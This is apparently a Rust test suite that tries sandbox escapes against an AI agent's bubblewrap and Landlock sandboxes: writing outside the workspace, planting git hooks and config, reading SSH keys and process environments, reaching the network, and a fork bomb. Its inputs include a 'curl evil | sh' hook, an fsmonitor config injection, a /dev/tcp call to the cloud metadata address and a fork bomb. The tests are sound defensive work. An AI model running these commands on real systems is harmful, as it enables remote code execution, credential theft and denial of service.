//! Escape attempts against both sandboxes, bubblewrap and Landlock plus seccomp: each one
//! refused with a result the model can read, nothing written outside the workspace, and
//! the same command succeeding where the sandbox allows it.
//!
//! These need bubblewrap (`scripts/test` installs it) and a kernel with Landlock. Without
//! them they fail under `CI=true` and are skipped, saying so, elsewhere.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::Duration;

use tools::{GitProtection, NetworkAccess, Sandbox, SandboxConfig, SandboxMode};

use super::sandboxed::{MODES, Sandboxed, mode_name, quoted, refused_read, refused_write, skip};

#[tokio::test]
async fn without_a_server_program_each_command_gets_a_sandbox_of_its_own() {
    for mode in MODES {
        let Some(sb) = Sandboxed::direct(mode) else {
            return;
        };
        let target = sb.outside.join("escaped.txt");
        let output = sb
            .run(&format!("echo x > {}; echo in > made.txt", quoted(&target)))
            .await;
        assert!(
            output.content.contains(refused_write(mode)),
            "{mode:?}: {}",
            output.content
        );
        assert!(!target.exists(), "{mode:?}: a file was written outside");
        assert!(sb.workspace.join("made.txt").exists(), "{mode:?}");
        assert_eq!(output.details["sandbox"], mode_name(mode));
    }
}

#[tokio::test]
async fn writing_outside_the_workspace_is_refused_and_explained() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        let target = sb.outside.join("escaped.txt");
        let output = sb.run(&format!("echo x > {}", quoted(&target))).await;
        assert!(!output.success, "{mode:?}: {}", output.content);
        assert!(
            output.content.contains(refused_write(mode)),
            "{mode:?}: {}",
            output.content
        );
        assert!(
            output.content.contains("note: the sandbox"),
            "{mode:?}: {}",
            output.content
        );
        assert!(
            output.content.contains("write only inside the workspace"),
            "{mode:?}: {}",
            output.content
        );
        assert!(!target.exists(), "{mode:?}: a file was written outside");
        assert_eq!(output.details["sandbox"], mode_name(mode));

        // The same write inside the workspace, and in the private temporary folder,
        // succeeds (`/tmp` under bubblewrap, `$TMPDIR` under Landlock).
        let output = sb
            .run("echo inside > made.txt && echo tmp > ${TMPDIR:-/tmp}/t && cat ${TMPDIR:-/tmp}/t")
            .await;
        assert!(output.success, "{mode:?}: {}", output.content);
        assert_eq!(
            std::fs::read_to_string(sb.workspace.join("made.txt")).unwrap(),
            "inside\n"
        );
    }
}

#[tokio::test]
async fn git_hooks_and_config_cannot_be_planted_but_git_work_goes_on() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        for plant in [
            "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        ] {
            let output = sb.run(plant).await;
            match mode {
                // Mounted read-only: the write itself fails.
                SandboxMode::Bwrap => {
                    assert!(!output.success, "{plant}: {}", output.content);
                    assert!(
                        output.content.contains("Read-only file system"),
                        "{}",
                        output.content
                    );
                }
                // Landlock cannot refuse it below the workspace: it is undone, and said.
                _ => assert!(
                    output.content.contains("the change was undone"),
                    "{mode:?} {plant}: {}",
                    output.content
                ),
            }
            assert!(!sb.workspace.join(".git/hooks/post-checkout").exists());
            let config = std::fs::read_to_string(sb.workspace.join(".git/config")).unwrap();
            assert_eq!(config, "[core]\n", "{mode:?}");
        }
        // The rest of .git (index, objects, refs) stays writable for ordinary git work.
        let output = sb.run("echo 'ref: refs/heads/topic' > .git/HEAD").await;
        assert!(output.success, "{mode:?}: {}", output.content);
        assert!(!output.content.contains("undone"), "{}", output.content);
    }
}

/// git enters a submodule on the superproject's `git status`: its git directory's
/// config and hooks (under `.git/modules`) are kept like the workspace's own.
#[tokio::test]
async fn a_submodules_hooks_and_config_cannot_be_planted_either() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        let module = sb.workspace.join(".git/modules/dep");
        std::fs::create_dir_all(&module).unwrap();
        std::fs::write(module.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(module.join("config"), "[core]\n").unwrap();
        for plant in [
            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/dep/config",
            "echo evil > .git/modules/dep/hooks/post-checkout",
        ] {
            let output = sb.run(plant).await;
            if mode == SandboxMode::Bwrap {
                assert!(!output.success, "{plant}: {}", output.content);
            } else {
                assert!(output.content.contains("undone"), "{}", output.content);
            }
            assert_eq!(
                std::fs::read_to_string(module.join("config")).unwrap(),
                "[core]\n",
                "{mode:?}"
            );
            assert!(!module.join("hooks/post-checkout").exists(), "{mode:?}");
        }
    }
}

#[tokio::test]
async fn the_whole_git_folder_can_be_made_read_only() {
    let Some(sb) = Sandboxed::with_git(
        SandboxMode::Bwrap,
        NetworkAccess::Off,
        0,
        GitProtection::ReadOnly,
    ) else {
        return;
    };
    let output = sb.run("echo 'ref: refs/heads/evil' > .git/HEAD").await;
    assert!(!output.success, "{}", output.content);
    assert!(
        output.content.contains("Read-only file system"),
        "{}",
        output.content
    );
    let head = std::fs::read_to_string(sb.workspace.join(".git/HEAD")).unwrap();
    assert_eq!(head, "ref: refs/heads/main\n");
    let output = sb.run("cat .git/HEAD").await;
    assert!(
        output.success && output.content.contains("refs/heads/main"),
        "{}",
        output.content
    );
    // Landlock cannot give that; asking for it is refused, not quietly weakened.
    let err = Sandbox::resolve(
        &SandboxConfig {
            mode: SandboxMode::Landlock,
            git: GitProtection::ReadOnly,
            ..SandboxConfig::default()
        },
        None,
        None,
    )
    .unwrap_err();
    assert!(err.to_string().contains("needs bubblewrap"), "{err}");
}

#[tokio::test]
async fn ssh_keys_the_data_folder_and_other_runs_are_hidden() {
    // Another run's workspace, where runs keep theirs (the system's temporary folder).
    let other_run = tempfile::tempdir().unwrap();
    std::fs::write(other_run.path().join("secret.txt"), "OTHER-RUN-FILE\n").unwrap();
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        for secret in [
            sb.home.join(".ssh/id_ed25519"),
            sb.data.join("tasks.db"),
            other_run.path().join("secret.txt"),
        ] {
            let output = sb.run(&format!("cat {}", quoted(&secret))).await;
            assert!(!output.success, "{mode:?}: {}", output.content);
            assert!(
                output.content.contains(refused_read(mode)),
                "{mode:?}: {}",
                output.content
            );
            for material in ["PRIVATE-KEY-MATERIAL", "DATABASE-ROWS", "OTHER-RUN-FILE"] {
                assert!(!output.content.contains(material), "{}", output.content);
            }
        }
        // Other files of the home folder stay readable (tool chains live there).
        std::fs::write(sb.home.join(".profile"), "PROFILE\n").unwrap();
        let output = sb
            .run(&format!("cat {}", quoted(&sb.home.join(".profile"))))
            .await;
        assert!(
            output.success && output.content.contains("PROFILE"),
            "{mode:?}: {}",
            output.content
        );
    }
}

#[tokio::test]
async fn other_processes_environments_are_unreadable() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        let own = std::process::id();
        let output = sb.run(&format!("cat /proc/{own}/environ")).await;
        assert!(!output.success, "{mode:?}: {}", output.content);
        assert!(
            output.content.contains(refused_read(mode)),
            "{mode:?}: {}",
            output.content
        );
        assert!(!output.content.contains("PATH="), "{}", output.content);
        if mode == SandboxMode::Bwrap {
            // Its own PID namespace: only the sandbox's own processes are listed.
            let output = sb.run("ls /proc | grep -c '^[0-9]'").await;
            let count: u32 = output
                .content
                .lines()
                .find_map(|l| l.trim().parse().ok())
                .unwrap();
            assert!(
                count <= 5,
                "{} processes visible: {}",
                count,
                output.content
            );
        }
    }
}

/// A listener on the host's loopback; returns whether anything connected within a while.
fn loopback_listener() -> (u16, std::thread::JoinHandle<bool>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let handle = std::thread::spawn(move || {
        for _ in 0..100 {
            if let Ok((mut stream, _)) = listener.accept() {
                let _ = stream.write_all(b"hello from the host\n");
                let mut buf = [0u8; 16];
                let _ = stream.read(&mut buf);
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    });
    (port, handle)
}

#[tokio::test]
async fn without_network_connections_fail_at_once_and_are_explained() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 0) else {
            return;
        };
        let (port, connected) = loopback_listener();
        let output = sb
            .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
            .await;
        assert!(!output.success, "{mode:?}: {}", output.content);
        assert!(
            !connected.join().unwrap(),
            "{mode:?}: the host's loopback was reached"
        );

        // The cloud metadata address: refused at once, not a hang until the timeout.
        let output = sb.run_for("exec 3<>/dev/tcp/169.254.169.254/80", 20).await;
        assert!(!output.success, "{mode:?}: {}", output.content);
        assert_eq!(output.details["timed_out"], false, "{}", output.content);
        assert!(
            output.content.contains("Network is unreachable"),
            "{mode:?}: {}",
            output.content
        );
        assert!(
            output.content.contains("note: this run has no network"),
            "{mode:?}: {}",
            output.content
        );
    }
}

#[tokio::test]
async fn with_network_on_the_same_connection_succeeds() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::On, 0) else {
            return;
        };
        let (port, connected) = loopback_listener();
        let output = sb
            .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
            .await;
        assert!(output.success, "{mode:?}: {}", output.content);
        assert!(
            output.content.contains("hello from the host"),
            "{}",
            output.content
        );
        assert!(connected.join().unwrap());
    }
}

#[tokio::test]
async fn a_fork_bomb_hits_the_process_cap_and_is_killed() {
    for mode in MODES {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, 64) else {
            return;
        };
        if sb.ctx.sandbox.summary().max_processes.is_none() {
            assert_ne!(
                std::env::var("CI").as_deref(),
                Ok("true"),
                "CI runs as root with a writable pids cgroup: the cap must be enforced"
            );
            skip("no pids cgroup can be made here");
            return;
        }
        let output = sb
            .run_for("bomb() { bomb | bomb & }; bomb; sleep 3", 10)
            .await;
        assert!(
            output.content.contains("process limit of the sandbox"),
            "{mode:?}: {}",
            output.content
        );
        assert_eq!(output.details["process_cap_hit"], true);
        // Nothing of it is left: the sandbox still runs commands normally, in the same
        // cgroup, emptied, whose earlier refusals are not this command's.
        let output = sb.run("echo alive").await;
        assert!(output.success, "{mode:?}: {}", output.content);
        assert_eq!(output.details["process_cap_hit"], false, "{mode:?}");
    }
}

#[tokio::test]
async fn a_process_left_running_is_killed_with_the_sandbox() {
    // Without and with a process cap: under bubblewrap with a pids cgroup, the PID
    // namespace and the cgroup are what end it (no sweep of `/proc` for the call's mark).
    let cases = [
        (0, "987.654"),
        (0, "987.655"),
        (64, "987.656"),
        (64, "987.657"),
    ];
    for (mode, (cap, marker)) in [MODES[0], MODES[1], MODES[0], MODES[1]]
        .into_iter()
        .zip(cases)
    {
        let Some(sb) = Sandboxed::new(mode, NetworkAccess::Off, cap) else {
            return;
        };
        // A distinctive duration names the process in the host's process list.
        let output = sb
            .run(&format!(
                "(setsid sleep {marker} >/dev/null 2>&1 &); echo started"
            ))
            .await;
        assert!(output.success, "{mode:?}: {}", output.content);
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while sleeper_running(marker) {
            assert!(
                std::time::Instant::now() < deadline,
                "{mode:?}: the sleeper outlived its command"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

fn sleeper_running(marker: &str) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
        std::fs::read(entry.path().join("cmdline")).is_ok_and(|cmdline| {
            let text = String::from_utf8_lossy(&cmdline);
            text.starts_with("sleep\0") && text.contains(marker)
        })
    })
}
